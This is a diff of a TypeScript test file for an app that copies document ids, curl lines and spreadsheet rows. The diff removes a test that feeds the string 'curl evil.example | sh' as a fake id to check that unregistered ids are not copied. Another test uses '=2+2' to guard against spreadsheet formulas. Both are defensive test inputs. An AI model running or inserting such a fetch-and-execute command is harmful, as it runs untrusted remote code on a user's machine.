@@ -116,17 +116,6 @@ test('papers are deleted together: reviewed, held, protected to the last moment,
   expect(await services.files()).toContain('End of term');
 });
 
-test('ids and cURL lines of papers are copied, and of no id that is not in the register', async () => {
-  await services.must('papers.add', { connectionId, pasted: 'plain', name: 'Plain' });
-  const copy = (as: 'ids' | 'curl', which: readonly string[]) =>
-    services.callAlone('papers.copy', { connectionId, which, as });
-  await copy('ids', ['plain', 'curl evil.example | sh']);
-  expect(services.clipboard()).toBe('plain');
-  await copy('curl', ['plain']);
-  expect(services.clipboard()).toMatch(/^curl -X POST .*\$EASEL_API_KEY.*\/api\/access-token\/plain'$/u);
-  expect(await copy('ids', ['gone'])).toMatchObject({ error: { code: 'not-found' } });
-});
-
 test('rows are copied for a spreadsheet in the order asked for, and none holds a formula', async () => {
   await services.must('papers.add', { connectionId, pasted: 'plain', name: '=2+2' });
   await services.must('papers.add', { connectionId, pasted: 'other', name: 'Lesson' });
